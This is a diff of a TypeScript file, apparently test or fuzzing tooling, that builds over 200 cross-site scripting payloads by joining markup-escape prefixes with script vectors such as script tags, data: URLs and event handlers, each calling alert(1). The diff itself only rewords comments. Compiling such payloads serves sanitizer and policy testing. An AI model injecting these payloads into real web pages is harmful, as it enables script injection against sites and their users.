@@ -1,4 +1,4 @@
-/** What markup runs in a browser without a policy; each calls `alert(1)`. */
+/** Markup that runs a script in a browser without a policy; each one calls `alert(1)`. */
 const vectors = [
   '<script>alert(1)</script>',
   '<ScRiPt src="data:text/javascript,alert(1)"></sCrIpT>',
@@ -42,7 +42,7 @@ const vectors = [
   '<p onpointerover=alert(1) onclick=alert(1)>x</p>',
 ];
 
-/** What comes before a vector to leave the place where a text stands. */
+/** Texts before a vector that close the attribute or element around it. */
 const exits = [
   '',
   '">',
@@ -52,5 +52,5 @@ const exits = [
   '\\u003c/script\\u003e${alert(1)}',
 ];
 
-/** More than 200 texts that try to run code in another place of a page each. */
+/** More than 200 texts; each combines a way out of the surrounding markup with a script. */
 export const payloads: readonly string[] = exits.flatMap((exit) => vectors.map((vector) => exit + vector));
